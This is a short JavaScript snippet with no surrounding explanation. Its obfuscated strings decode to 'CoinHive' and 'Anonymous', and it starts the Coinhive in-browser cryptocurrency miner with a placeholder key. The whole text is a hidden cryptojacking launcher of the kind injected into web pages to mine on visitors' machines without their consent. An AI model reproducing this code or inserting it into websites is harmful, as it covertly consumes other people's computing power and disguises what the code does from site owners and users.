var s = "\x43\x6f\x69\x6e" + "evih".split("").reverse().join("");
var a = ["Anony", "mous"].join("");
window[s.charAt(0) + "oinHive"][a]("0123456789abcdef0123456789ABCDEF").start();
